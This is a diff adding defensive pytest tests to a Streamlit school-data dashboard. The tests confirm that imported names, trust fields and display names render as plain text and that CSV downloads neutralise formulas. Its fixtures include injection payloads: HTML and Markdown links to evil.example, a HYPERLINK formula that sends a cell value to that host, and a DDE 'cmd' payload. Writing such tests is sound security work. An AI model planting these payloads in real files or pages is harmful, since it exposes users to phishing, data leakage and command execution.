@@ -7,19 +7,22 @@ as roll x rate), never from the LA's figures.
 
 from __future__ import annotations
 
+import csv
 import io
+import re
+import shutil
 from collections.abc import Iterator
 from pathlib import Path
 
 import polars as pl
 import pytest
-import streamlit
+import yaml
 from streamlit.testing.v1 import AppTest
 
-from oep import access, auth, categories, queries, send
+from oep import access, auth, categories, plain, queries, send
 from oep.config import Settings, load_settings
 from oep.schema import ACADEMIC_YEAR, ALL_PUPILS, EHC_PLAN, SEN_SUPPORT
-from oep.store import Store
+from oep.store import Store, rebuilding
 from oep.suppression import suppress_needs
 from tests.conftest import DEMO_USERNAMES, DemoEnv, log_in, new_app
 
@@ -260,3 +263,126 @@ def test_every_condition_table_and_csv_show_c_not_the_figure(
     assert csvs and all(_pct(real).encode() not in p for p in csvs)
     assert any("persistent absence" in str(e) and "c" in str(e)
                for e in checks["Figure and period"].to_list())
+
+
+# --- 6, 7. imported text stays text: on the page, in charts, in downloads ---------------------
+
+EVIL_NAME = 'Evil <a href="http://evil.example/x">Open report</a> Academy'
+EVIL_TRUST = "[Trust portal](http://evil.example/t) ![logo](http://evil.example/i.png)"
+EVIL_DISPLAY_NAME = "**Boss** [reset your password](http://evil.example/r)"
+FORMULA_NAME = '=HYPERLINK("http://evil.example/"&B2,"Open report")'
+# What a live link, image, tag or autolink looks like in Markdown (unescaped) or in plotly's
+# HTML-like labels.
+LIVE_MARKDOWN = re.compile(rb"(?<!\\)<a\s|(?<!\\)\]\(|(?<!\\)!\[|https?://|(?<!\\)\*\*Boss")
+LIVE_HTML = re.compile(rb"<a\s|<img", re.IGNORECASE)
+# Elements whose text Streamlit shows as it is, never as Markdown.
+PLAIN_ELEMENTS = {"dataframe", "selectbox", "multiselect", "text_input", "text_area",
+                  "download_button"}
+
+
+@pytest.fixture()
+def evil_env(demo_files: DemoEnv, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> DemoEnv:
+    """The demo store with a register whose names and trust hold links, tags and a formula, and
+    users whose display names hold Markdown."""
+    store = tmp_path / "oep.duckdb"
+    shutil.copyfile(demo_files.store, store)
+    with rebuilding(store) as con:
+        con.execute("UPDATE establishments SET name = ?, trust = ? WHERE urn = ?",
+                    [EVIL_NAME, EVIL_TRUST, demo_files.orgs["head_member"]])
+        con.execute("UPDATE establishments SET name = ? WHERE urn = ?",
+                    [FORMULA_NAME, demo_files.orgs["senco_member"]])
+    users = yaml.safe_load(demo_files.auth.read_text())
+    for record in users["credentials"]["usernames"].values():
+        record["name"] = EVIL_DISPLAY_NAME
+    auth_file = tmp_path / "users.yaml"
+    auth_file.write_text(yaml.safe_dump(users))
+    activity = tmp_path / "activity.duckdb"
+    for key, value in (("OEP_DB", store), ("OEP_AUTH_FILE", auth_file),
+                       ("OEP_ACTIVITY_DB", activity)):
+        monkeypatch.setenv(key, str(value))
+    return DemoEnv(store, auth_file, activity, demo_files.orgs)
+
+
+def _rendered(at: AppTest) -> tuple[list[bytes], list[bytes]]:
+    """(texts Streamlit renders as Markdown, plotly figure specs) of the page's elements."""
+    markdown, charts = [], []
+    for node in at._tree:
+        proto = getattr(node, "proto", None)
+        if proto is None or node.type in PLAIN_ELEMENTS:
+            continue
+        if node.type == "plotly_chart":
+            charts.append(proto.spec.encode())
+        else:
+            markdown.append(proto.SerializeToString())
+    return markdown, charts
+
+
+@pytest.mark.parametrize("username", ["officer", "head_member"])
+def test_imported_text_is_plain_text_on_every_page(evil_env: DemoEnv, downloads: list[bytes],
+                                                   username: str) -> None:
+    urn = evil_env.orgs["head_member"]
+    at = log_in(new_app(), username)
+    assert not at.exception, at.exception
+    at.query_params["urn"] = urn
+    for key in ("filter:school", "filter:categories_school", "filter:disengagement_school"):
+        at.session_state[key] = urn
+    pages = ["pages/overview.py", "pages/attendance.py", "pages/send.py",
+             "pages/categories.py", "pages/school_profile.py"]
+    if username == "officer":
+        pages += ["pages/disengagement.py", "pages/admin.py"]
+    markdown_seen, charts_seen, csvs = [], [], []
+    for page in pages:
+        downloads.clear()
+        at.switch_page(page).run()
+        assert not at.exception, (page, at.exception)
+        markdown, charts = _rendered(at)
+        for text in markdown:
+            assert not LIVE_MARKDOWN.search(text), (page, text[:400])
+        for spec in charts:
+            assert not LIVE_HTML.search(spec), (page, spec[:400])
+        markdown_seen += markdown
+        charts_seen += charts
+        csvs += downloads
+    # The names did reach the page, the charts and the downloads - as text.
+    assert any(b'Evil \\<a href="http\\://' in t for t in markdown_seen)
+    assert any(b"\\[Trust portal\\]" in t for t in markdown_seen)
+    assert any(b"\\*\\*Boss\\*\\*" in t for t in markdown_seen), "the sidebar name, escaped"
+    assert any(b"Evil &lt;a href=" in spec for spec in charts_seen)
+    assert any(b"Evil <a href=" in c for c in csvs)
+    _assert_no_formula(csvs)
+
+
+def _assert_no_formula(csvs: list[bytes]) -> None:
+    """No cell of any CSV starts a formula, and negative numbers are still numbers."""
+    cells = [cell for payload in csvs for row in csv.reader(io.StringIO(payload.decode()))
+             for cell in row]
+    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)", c)]
+    assert not formulas, formulas[:5]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells), "the formula name was downloaded"
+    assert any(re.fullmatch(r"-\d+(\.\d+)?", c) for c in cells), "negative numbers stay numbers"
+
+
+def test_spreadsheet_safe_prefixes_text_formulas_only() -> None:
+    frame = pl.DataFrame({
+        "name": [FORMULA_NAME, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx",
+                 "St Mary's", "-0.25", "+1.50", None],
+        "gap": [-1.5, -2.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
+    })
+    safe = plain.spreadsheet_safe(frame)
+    assert safe["name"].to_list() == [
+        "'" + FORMULA_NAME, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx",
+        "St Mary's", "-0.25", "+1.50", None]
+    assert safe["gap"].to_list() == frame["gap"].to_list()
+    assert plain.csv_bytes(frame).splitlines()[1].startswith(b"\"'=HYPERLINK(")
+
+
+def test_markdown_escape_leaves_no_live_syntax_and_plain_words_alone() -> None:
+    escaped = plain.markdown(f"{EVIL_TRUST} :red[x] $x$ www.evil.example\n# Heading\n1. item")
+    assert not LIVE_MARKDOWN.search(escaped.encode())
+    assert ":red[" not in escaped and "$x$" not in escaped and "www.evil" not in escaped
+    assert [line[:2] for line in escaped.split("  \n")[1:]] == ["\\#", "1\\"]
+    for words in ("7.1%", "Demo SENCO (member school)", "Level 2: since 08:09", "2024/25"):
+        assert plain.markdown(words) == words
+    assert plain.html(EVIL_NAME) == (
+        'Evil &lt;a href="http://evil.example/x"&gt;Open report&lt;/a&gt; Academy')
